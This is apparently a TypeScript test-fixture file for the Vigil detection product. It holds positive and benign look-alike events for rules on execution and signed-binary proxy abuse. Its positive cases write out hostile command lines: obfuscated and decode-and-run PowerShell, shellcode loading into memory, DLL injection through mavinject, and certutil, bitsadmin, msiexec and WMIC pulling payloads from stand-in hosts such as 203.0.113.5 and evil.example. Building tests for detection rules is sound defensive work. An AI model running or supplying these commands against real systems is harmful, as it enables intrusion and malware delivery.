/** Positive and look-alike events for Vigil's execution and signed-binary proxy rules. */
import {
  linuxProcess,
  powershellPath,
  processStart,
  type RuleCase,
  scriptBlock,
  system32,
  windowsEvent,
} from '../rule-case.js';

const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';

export const executionCases: RuleCase[] = [
  {
    title: 'Office Application Or Browser Starts A Shell Or Script Interpreter',
    positive: () => [processStart(powershellPath, 'powershell -nop -w hidden -c iex $x', { ParentImage: word })],
    negative: () => [
      processStart('C:\\Program Files\\Adobe\\reader.exe', 'reader.exe doc.pdf', { ParentImage: word }),
      processStart(system32('msiexec.exe'), 'msiexec /i C:\\Users\\bob\\Downloads\\app.msi', {
        ParentImage: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      }),
    ],
  },
  {
    title: 'Obfuscated PowerShell Command Line',
    positive: () => [
      processStart(
        powershellPath,
        `powershell -c "&([scriptblock]::create((New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))"`,
      ),
      processStart(powershellPath, 'powershell -c "I`E`X (n`e`w-object net.webclient)"'),
    ],
    negative: () => [
      processStart(powershellPath, 'powershell -NoProfile -File C:\\scripts\\report.ps1 -Format "{0}" -Verbose'),
    ],
  },
  {
    title: 'PowerShell Script Block Decodes And Runs Code',
    positive: () => [
      scriptBlock('$b=[Convert]::FromBase64String($p); iex ([Text.Encoding]::Unicode.GetString($b))'),
      scriptBlock('Invoke-Expression ([IO.StreamReader]::new([IO.Compression.GzipStream]::new($s, 0))).ReadToEnd()'),
    ],
    negative: () => [
      scriptBlock('$bytes = [Convert]::FromBase64String($cert); [IO.File]::WriteAllBytes("C:\\certs\\a.cer", $bytes)'),
      // Loading an assembly from memory is reflective loading, the next rule's, not decode-and-run.
      scriptBlock('[System.Reflection.Assembly]::Load([Convert]::FromBase64String($dll))'),
    ],
  },
  {
    title: 'PowerShell Script Block Loads An Assembly Or Shellcode Into Memory',
    positive: () => [
      scriptBlock('[System.Reflection.Assembly]::Load([Convert]::FromBase64String($dll))'),
      scriptBlock(
        '$p = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40); $f = [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, $t)',
      ),
    ],
    negative: () => [
      // Decoding a payload and running it as script is not loading code into memory.
      scriptBlock('$b=[Convert]::FromBase64String($p); iex ([Text.Encoding]::Unicode.GetString($b))'),
      scriptBlock('Add-Type -Path "C:\\Program Files\\Vendor\\Vendor.Management.dll"'),
    ],
  },
  {
    title: 'Script Host Runs A Script From A User-Writable Folder Or Archive',
    positive: () => [processStart(system32('wscript.exe'), 'wscript.exe "C:\\Users\\bob\\Downloads\\invoice.vbs"')],
    negative: () => [
      processStart(system32('cscript.exe'), 'cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli'),
    ],
  },
  {
    title: 'Windows Installer Fetches A Remote Package Or Runs Quietly From A User Folder',
    positive: () => [processStart(system32('msiexec.exe'), 'msiexec /q /i http://203.0.113.5/p.msi')],
    negative: () => [processStart(system32('msiexec.exe'), 'msiexec /i C:\\Installers\\agent.msi /qn')],
  },
  {
    title: '.NET Installation Utility Runs An Assembly Without Installing',
    positive: () => [
      processStart(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
        'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll',
      ),
    ],
    negative: () => [
      processStart(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
        'InstallUtil.exe "C:\\Program Files\\Vendor\\Service.exe"',
      ),
    ],
  },
  {
    title: 'Compiled HTML Help Opened From A User Folder Or URL',
    positive: () => [processStart('C:\\Windows\\hh.exe', 'hh.exe C:\\Users\\bob\\Downloads\\manual.chm')],
    negative: () => [processStart('C:\\Windows\\hh.exe', 'hh.exe C:\\Windows\\Help\\mmc.chm')],
  },
  {
    title: 'Control Panel Item Loaded From An Unusual Location',
    positive: () => [
      processStart(system32('control.exe'), 'control.exe C:\\Users\\bob\\AppData\\Local\\Temp\\evil.cpl'),
    ],
    negative: () => [
      processStart(system32('control.exe'), 'control.exe ncpa.cpl'),
      processStart(system32('control.exe'), 'control.exe C:\\Windows\\System32\\timedate.cpl'),
    ],
  },
  {
    title: 'DLL Injected Or Run Through A Signed Windows Helper',
    positive: () => [
      processStart(system32('mavinject.exe'), 'mavinject.exe 4242 /INJECTRUNNING C:\\Users\\Public\\x.dll'),
      processStart(
        system32('wuauclt.exe'),
        'wuauclt.exe /UpdateDeploymentProvider C:\\Users\\Public\\x.dll /RunHandlerComServer',
      ),
    ],
    negative: () => [processStart(system32('wuauclt.exe'), 'wuauclt.exe /detectnow')],
  },
  {
    title: 'Script Embedded In An XSL Stylesheet Executed',
    positive: () => [processStart(system32('wbem\\WMIC.exe'), 'wmic os get /format:"https://evil.example/a.xsl"')],
    negative: () => [processStart(system32('wbem\\WMIC.exe'), 'wmic os get caption /format:list')],
  },
  {
    title: 'Windows Utility Downloads Or Decodes A File',
    positive: () => [
      processStart(
        system32('certutil.exe'),
        'certutil -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe',
      ),
      processStart(
        system32('bitsadmin.exe'),
        'bitsadmin /transfer job /download /priority high http://203.0.113.5/a.ps1 C:\\Users\\Public\\a.ps1',
      ),
    ],
    negative: () => [
      processStart(system32('certutil.exe'), 'certutil -store my'),
      processStart(system32('bitsadmin.exe'), 'bitsadmin /list /allusers'),
    ],
  },
  {
    title: 'BITS Job Created To Download Or Run A Program',
    positive: () => [
      windowsEvent('Microsoft-Windows-Bits-Client/Operational', 59, {
        url: 'http://203.0.113.5/stage.ps1',
        name: 'job',
      }),
    ],
    negative: () => [
      windowsEvent('Microsoft-Windows-Bits-Client/Operational', 59, {
        url: 'http://au.download.windowsupdate.com/c/msdownload/update.cab',
      }),
    ],
  },
  {
    title: 'Interpreter Starts An Ad-Hoc Web Or File Server',
    positive: () => [processStart('C:\\Python39\\python.exe', 'python -m http.server 8080')],
    negative: () => [processStart('C:\\Python39\\python.exe', 'python -m pip install requests')],
  },
  {
    title: 'Interpreter Starts An Ad-Hoc Web Or File Server On Linux',
    positive: () => [linuxProcess('/usr/bin/python3', 'python3 -m http.server 8000 --bind 0.0.0.0')],
    negative: () => [linuxProcess('/usr/bin/python3', 'python3 -m venv .venv')],
  },
];
